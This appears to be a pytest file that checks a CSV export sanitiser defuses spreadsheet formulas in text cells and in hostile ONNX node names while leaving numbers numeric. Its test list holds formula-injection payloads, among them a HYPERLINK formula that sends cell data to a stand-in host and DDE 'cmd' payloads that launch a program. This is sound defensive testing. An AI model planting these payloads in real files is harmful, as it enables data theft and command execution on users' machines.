"""CSV exports a spreadsheet cannot run: formulas defused, numbers left numeric."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import onnx
import pandas as pd
import pytest
from onnx import TensorProto, helper

from backend.compat import build_matrix
from backend.compat import export as compat_export
from backend.reporting import exports
from backend.reporting.csvsafe import neutralise, safe_frame
from tests import models

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_with_a_formula_trigger_gets_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-1.5, -3, 0, 2.5e-3, np.float32(-1.25), np.int64(-7), True, None]
)
def test_numbers_stay_numbers_even_negative(value: object) -> None:
    assert neutralise(value) is value


@pytest.mark.parametrize("text", ["-3", "+4.5", "-1e-3", "resnet50", "a=b", ""])
def test_plain_text_and_number_literals_are_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_export_csv_defuses_names_and_keeps_numeric_columns() -> None:
    frame = pd.DataFrame(
        {
            "model": ['=HYPERLINK("http://evil/")', "mlp"],
            "speedup": [1.5, -0.25],
            "error": ["@SUM(A1)", None],
        }
    )
    data = exports.export_csv(frame).decode()
    rows = list(csv.reader(io.StringIO(data)))
    assert rows[1][0] == '\'=HYPERLINK("http://evil/")'
    assert rows[1][2] == "'@SUM(A1)"
    back = pd.read_csv(io.StringIO(data))
    assert back["speedup"].tolist() == [1.5, -0.25]
    assert frame["model"][0].startswith("=")  # the caller's frame is not changed
    assert safe_frame(frame)["speedup"].dtype == frame["speedup"].dtype


def test_compatibility_csv_defuses_a_hostile_node_name(tmp_path: Path) -> None:
    node = helper.make_node("Relu", ["x"], ["y"], name='=HYPERLINK("http://evil/")')
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", models.OPSET)])
    model.ir_version = 8
    path = tmp_path / "evil.onnx"
    onnx.save(model, str(path))
    text = compat_export.to_csv(build_matrix(path, with_placement=False))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and all(r["node"] == '\'=HYPERLINK("http://evil/")' for r in rows)
